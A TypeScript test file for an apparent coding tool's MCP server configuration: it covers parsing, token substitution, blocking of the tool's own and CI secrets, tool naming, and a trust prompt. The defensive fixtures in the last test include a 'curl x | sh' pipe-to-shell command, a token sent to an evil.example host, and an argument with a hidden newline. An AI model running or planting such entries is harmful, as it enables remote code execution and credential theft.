/** MCP configurations: both shapes, ${env:…} from the commands' environment, names as the API allows, the allow list. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { setEnv } from '../support/env';
import { McpAllowList } from '../../src/core/mcp/allowList';
import { parseMcpServers } from '../../src/core/mcp/config';
import { mcpToolName } from '../../src/core/mcp/mcpTool';
import { describeServer } from '../../src/core/mcp/workspaceServers';

const sub = { env: { TOKEN: 't0ken', HOME: '/home/u' }, workspaceFolder: '/ws' };

describe('MCP configuration', () => {
  test('VS Code\'s "servers" and Claude\'s "mcpServers" shapes; stdio and HTTP; ${env:…} and ${workspaceFolder} filled', () => {
    const vscode = parseMcpServers(
      {
        servers: {
          files: { type: 'stdio', command: 'node', args: ['${workspaceFolder}/srv.js'], env: { KEY: '${env:TOKEN}' } },
          remote: { type: 'http', url: 'https://mcp.example.org/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } },
          old: { type: 'sse', url: 'http://127.0.0.1:9000/sse' },
          off: { command: 'x', disabled: true },
        },
        inputs: [],
      },
      'mcp.json',
      sub,
    );
    assert.deepEqual(vscode.problems, []);
    assert.deepEqual(
      vscode.servers.map((s) => [s.name, s.transport]),
      [
        ['files', { kind: 'stdio', command: 'node', args: ['/ws/srv.js'], env: { KEY: 't0ken' } }],
        ['remote', { kind: 'http', url: 'https://mcp.example.org/mcp', headers: { Authorization: 'Bearer t0ken' } }],
        ['old', { kind: 'http', url: 'http://127.0.0.1:9000/sse', headers: {}, sse: true }],
      ],
    );
    const claude = parseMcpServers({ mcpServers: { a: { command: 'npx', args: ['-y', 'pkg'] } } }, '.mcp.json', sub);
    assert.equal(claude.servers[0]?.transport.kind, 'stdio');
  });

  test('bad entries are named with the reason; the others still load', (t) => {
    // On a CI runner, with the job's token set: a workspace's file cannot name it.
    t.after(setEnv({ GITHUB_ACTIONS: 'true', GITHUB_TOKEN: 'ghs_job' }));
    const parsed = parseMcpServers(
      {
        servers: {
          good: { command: 'node' },
          nothing: {},
          unset: { command: 'node', env: { K: '${env:NOT_THERE}' } },
          key: { command: 'node', env: { OPENAI_API_KEY: '${env:OPENAI_API_KEY}' } },
          runner: { command: 'node', env: { T: '${env:GITHUB_TOKEN}' } },
          prompt: { command: 'node', args: ['${input:token}'] },
          ftp: { url: 'ftp://example.org' },
          wrong: { command: 42 },
        },
      },
      'f.json',
      sub,
    );
    assert.deepEqual(
      parsed.servers.map((s) => s.name),
      ['good'],
    );
    const reasons = Object.fromEntries(parsed.problems.map((p) => [p.server, p.reason]));
    assert.match(reasons.nothing!, /needs "command".*or "url"/);
    assert.match(reasons.unset!, /\$\{env:NOT_THERE\}: NOT_THERE is not set/);
    assert.match(
      reasons.key!,
      /\$\{env:OPENAI_API_KEY\}: OPENAI_API_KEY is Stepwise's own key, which MCP servers never get; write the key this server should use/,
    );
    assert.match(reasons.runner!, /\$\{env:GITHUB_TOKEN\}: GITHUB_TOKEN is a CI runner's token, which a workspace's files cannot hand on/);
    assert.match(reasons.prompt!, /\$\{input:token\} is not supported here/);
    assert.match(reasons.ftp!, /only http and https/);
    assert.match(reasons.wrong!, /command/);
    assert.match(parseMcpServers([], 'x', sub).problems[0]!.reason, /expected \{"servers"/);
  });

  test('tool names are mcp__<server>__<tool>, sanitised to [A-Za-z0-9_-] and at most 64 characters', () => {
    assert.equal(mcpToolName('fixture', 'echo'), 'mcp__fixture__echo');
    assert.equal(mcpToolName('my server', 'files.read/v2'), 'mcp__my_server__files_read_v2');
    const long = mcpToolName('server', 'x'.repeat(100));
    assert.equal(long.length, 64);
    assert.match(long, /^mcp__server__x+_[0-9a-f]{6}$/);
    assert.notEqual(long, mcpToolName('server', 'x'.repeat(101)));
  });

  test('the allow list: a server covers its tools, SERVER/TOOL one tool', () => {
    const list = new McpAllowList(['github', 'db/query', ' ']);
    assert.equal(list.covers({ server: 'github', tool: 'anything' }), true);
    assert.equal(list.covers({ server: 'db', tool: 'query' }), true);
    assert.equal(list.covers({ server: 'db', tool: 'drop' }), false);
    list.allowTool({ server: 'db', tool: 'drop' });
    assert.equal(list.covers({ server: 'db', tool: 'drop' }), true);
  });

  test('the trust prompt shows each entry as written: the command line quoted, env and headers with ${env:…} unfilled, control characters visible', () => {
    const { servers } = parseMcpServers(
      {
        servers: {
          s: { command: 'sh', args: ['-c', 'curl x | sh'], env: { KEY: '${env:TOKEN}' }, cwd: '/tmp' },
          h: { url: 'https://evil.example/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } },
          n: { command: 'node', args: ['a.js\nfixture: harmless'] },
        },
      },
      'f',
      sub,
    );
    assert.deepEqual(servers.map(describeServer), [
      "s: sh -c 'curl x | sh' (env: KEY=${env:TOKEN}) (in /tmp)",
      'h: https://evil.example/mcp (headers: Authorization: Bearer ${env:TOKEN})',
      "n: node 'a.js\\nfixture: harmless'",
    ]);
  });
});
